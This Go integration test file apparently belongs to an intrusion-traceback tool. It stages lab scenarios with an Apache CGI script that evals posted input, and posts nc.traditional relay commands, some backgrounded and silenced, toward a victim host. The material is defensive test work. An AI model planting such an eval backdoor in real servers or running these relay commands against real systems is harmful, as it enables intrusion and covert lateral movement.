package integration

import (
	"fmt"
	"net/netip"
	"slices"
	"testing"

	"github.com/stopd/stopd"
	"github.com/stopd/stopd/internal/netlab"
	"github.com/stopd/stopd/report"
)

// A server's workers have pipes, sockets and memory in common with their master and with each other, and each has clients of its own. The intruder
// uses one worker, and people of d the others.

// prefork is a web server with a hole: what is posted to /cgi/shell is done.
const prefork = `LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so
LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so
ServerName b
ServerRoot /etc
User #%[2]d
Group #%[2]d
Listen 0.0.0.0:%[1]d
PidFile /run/apache-relay.pid
ErrorLog /dev/stderr
StartServers 4
Timeout 600
KeepAliveTimeout 600
ScriptAlias /cgi/ %[3]s/
<Directory />
Require all granted
</Directory>
`

// apache starts the server, and has two of d's users at workers of their own.
func (s *stage) apache() {
	s.t.Helper()
	s.must(s.b.Host.WriteFile(s.dir+"/shell", []byte("#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\n'\nread -r line\neval \"$line\"\n"), 0o755, "root"))
	path := s.dir + "/apache.conf"
	s.must(s.b.Host.WriteFile(path, fmt.Appendf(nil, prefork, s.port, users["www"], s.dir), 0o644, "root"))
	s.daemonOnB("apache2", "-DFOREGROUND", "-f", path)
}

// post has the intruder send a body to a path of b's server, of which more is to come or not.
func (s *stage) post(path, body string, more int) *netlab.Session {
	s.t.Helper()
	c := s.open("nc.traditional", "-p", fmt.Sprint(s.posts().remote.Port()), s.b.Host.Addr().String(), fmt.Sprint(s.port))
	s.send(c, fmt.Sprintf("POST %s HTTP/1.0\r", path), fmt.Sprintf("Content-Length: %d\r", len(body)+1+more), "\r", body)
	return c
}

// posts is the connection by which the intruder posts.
func (s *stage) posts() connection {
	return connection{local: netip.AddrPortFrom(s.b.Host.Addr(), s.port), remote: netip.AddrPortFrom(s.a.Host.Addr(), s.port+5)}
}

// visitors has people of d at b's port, each at once, and waits until all are there and somebody has their connections.
func (s *stage) visitors(n int, says string) {
	s.t.Helper()
	s.listening(s.port)
	s.on(s.d, "mallory", "clients", fmt.Sprintf("b:%d:%d:%s", s.port, n, says))
	s.wait("wait for people of d", func() (bool, error) { return s.served(n) })
}

// served reports whether so many connections of d's with b's port are held, each by a process that has no other.
func (s *stage) served(n int) (bool, error) {
	cs, err := connections(s.ctx, s.b.Host)
	var by []int
	for _, c := range cs {
		if c.local.Port() == s.port && s.of(s.d, c.remote.Addr()) {
			by = append(by, c.pids...)
		}
	}
	slices.Sort(by)
	return len(slices.Compact(by)) == n, err
}

// gone waits until no connection with the attacker is left.
func (s *stage) gone() {
	s.t.Helper()
	s.wait("wait for the attacker to have left", func() (bool, error) {
		cs, err := connections(s.ctx, s.b.Host)
		return !slices.ContainsFunc(cs, func(c connection) bool { return s.of(s.a, c.remote.Addr()) }), err
	})
}

const getsIdle = `GET /idle HTTP/1.1\r\nHost: b\r\n\r\n`

func TestPrefork(t *testing.T) {
	t.Run("he is there", func(t *testing.T) {
		scenario(t, "SV_REC", func(s *stage) trail {
			s.apache()
			s.visitors(2, getsIdle)
			c := s.post("/cgi/shell", fmt.Sprintf("exec nc.traditional %s %d", s.c.Host.Addr(), victimPort), 1000)
			s.out(s.b, s.c)
			s.send(c, s.word)
			tr := s.through("nc.traditional", "apache2", "apache2")
			tr.beside = true
			return tr
		})
	})
	t.Run("he has left", func(t *testing.T) {
		s := theWorld(t).stage(t)
		s.apache()
		s.visitors(2, getsIdle)
		const more = "go"
		c := s.post("/cgi/shell", fmt.Sprintf("{ (echo %s; exec tail -f /dev/null) | nc.traditional %s %d; } >/dev/null 2>&1 </dev/null & read -r go",
			s.word, s.c.Host.Addr(), victimPort), len(more)+1)
		s.heard(s.c)
		s.send(c, more)
		s.must(c.Wait(s.ctx))
		s.gone()
		s.came(s.asked("SV_REC", s.out(s.b, s.c), true), s.posts())
	})
}

// waits is an application whose requests keep their worker. What is posted to it goes to the victim by a connection that is kept.
const waits = `import socket, threading
kept = []
def app(environ, start):
    say = environ["wsgi.input"].readline()
    if say:
        kept.append(socket.create_connection((%q, %d)))
        kept[0].sendall(say)
    if environ["PATH_INFO"] != "/left":
        threading.Event().wait()
    start("200 OK", [("Content-Length", "0")])
    return [b""]
`

// TestWorkersOfOne: the workers and their master are one user's, and nothing tells them apart but what they do.
func TestWorkersOfOne(t *testing.T) {
	const workers = 3
	start := func(s *stage) {
		s.must(s.b.Host.WriteFile(s.dir+"/waits.py", fmt.Appendf(nil, waits, s.c.Host.Addr(), victimPort), 0o644, "root"))
		s.on(s.b, "www", "gunicorn", "--workers", fmt.Sprint(workers), "--timeout", "0", "--bind", fmt.Sprintf("0.0.0.0:%d", s.port), "--chdir", s.dir, "waits:app")
		s.visitors(workers-1, getsIdle)
	}
	t.Run("he is there", func(t *testing.T) {
		scenario(t, "SV_REC", func(s *stage) trail {
			start(s)
			s.post("/", s.word, 0)
			tr := s.through("gunicorn", "gunicorn")
			tr.beside = true
			return tr
		})
	})
	t.Run("he has left", func(t *testing.T) {
		s := theWorld(t).stage(t)
		start(s)
		c := s.post("/left", s.word, 0)
		s.heard(s.c)
		s.must(c.Wait(s.ctx))
		s.gone()
		out := s.out(s.b, s.c)
		s.came(s.asked("SV_REC", out, true), s.posts())

		s.on(s.d, "mallory", "clients", fmt.Sprintf("b:%d:1:%s", s.port, getsIdle)) // now there is one at his worker
		s.wait("wait for another at his worker", func() (bool, error) { return s.served(workers) })
		s.notAlone(s.asked("SV_REC", out, true), s.posts())
	})
}

// notAlone checks that the attacker's host is asked about his connection, and that nobody else is taken for him.
func (s *stage) notAlone(r report.Redeemed, in connection) {
	s.t.Helper()
	if asked := askedOf(r); !slices.Contains(asked, stop.Ends{Remote: in.remote, Local: in.local}) {
		s.t.Errorf("asked is %v, and not %v\n%s", asked, in.remote, report.Text(r.Report))
	}
	for _, t := range r.Traceback {
		if t.Previous.Remote != in.remote && t.Flow != nil && t.Flow.Grade == stop.FlowCertain {
			s.t.Errorf("%v is certain: %+v", t.Previous, t.Flow)
		}
	}
}
